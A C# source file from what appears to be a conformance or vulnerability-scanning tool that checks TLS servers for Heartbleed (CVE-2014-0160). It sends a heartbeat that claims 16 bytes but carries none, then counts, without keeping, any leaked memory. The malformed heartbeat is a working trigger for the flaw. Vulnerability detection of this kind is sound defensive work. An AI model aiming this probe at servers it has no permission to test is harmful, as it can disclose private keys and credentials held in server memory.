using DeviceConformance.Model.Observations;

namespace DeviceConformance.Probing.Tls.Attacks;

/// <summary>
/// CVE-2014-0160: a heartbeat that says it carries more than it does. A sound server drops it (RFC 6520, 4); a vulnerable one sends back
/// what lies behind it in memory. <see cref="Claimed"/> bytes are asked for, counted and not kept.
/// </summary>
internal static class Heartbleed
{
    /// <summary>Bytes that the heartbeat claims to carry; it carries none.</summary>
    public const int Claimed = 16;

    private const byte Request = 1;
    private const byte PeerMaySend = 1;
    private const int MessageHeader = 3;
    private const byte UnknownMessage = 99;

    public static async Task<TlsAttackSeen> TryAsync(ClassicOpening opening, CancellationToken cancellationToken)
    {
        var (connection, answer) = await opening.OpenAsync(hello => hello with { More = [(TlsExtensionType.Heartbeat, [PeerMaySend])] }, cancellationToken);
        if (connection is null)
        {
            return Seen(Exposure.Undecided, $"To an offer with heartbeats: {answer.Text}.");
        }

        await using (connection)
        {
            var hello = answer.Flight.Hello!;
            if (!hello.Has(TlsExtensionType.Heartbeat))
            {
                return Seen(Exposure.NotVulnerable, "The server does not do heartbeats.");
            }

            // A sound server says nothing to the heartbeat, so something follows that it has to answer: then silence means something.
            byte[] question =
            [
                .. RecordTail.Record(TlsContentType.Heartbeat, hello.Version, [Request, 0, Claimed]),
                .. RecordTail.Record(TlsContentType.Handshake, hello.Version, [UnknownMessage, 0, 0, 0]),
            ];
            var tail = new RecordTail();
            var silence = await connection.SendAsync(question, TlsExchange.Deadline, cancellationToken)
                ?? await tail.ReadAsync(connection, read => read.Alert is not null || Leak(read) > 0, TlsExchange.Deadline, cancellationToken);
            var leak = Leak(tail);
            return leak > 0 ? Seen(Exposure.Vulnerable, $"A heartbeat without content that claims {Claimed} bytes was answered with {leak} bytes of memory and padding.")
                : tail.Alert is { } alert ? Seen(Exposure.NotVulnerable, $"The server does heartbeats and dropped the one that claims too much; to what followed it said {alert}.")
                : silence is Silence.ClosedByPeer or Silence.Reset ? Seen(Exposure.NotVulnerable, "The server does heartbeats and closed on the one that claims too much.")
                : Seen(Exposure.Undecided, "The server does heartbeats, and answered neither the one that claims too much nor what followed it.");
        }
    }

    private static int Leak(RecordTail tail) => tail.Records.Where(record => record.Type == TlsContentType.Heartbeat).Sum(record => Math.Max(0, record.Length - MessageHeader));

    private static TlsAttackSeen Seen(Exposure exposure, string reason) => new(TlsAttack.Heartbleed, exposure, reason);
}
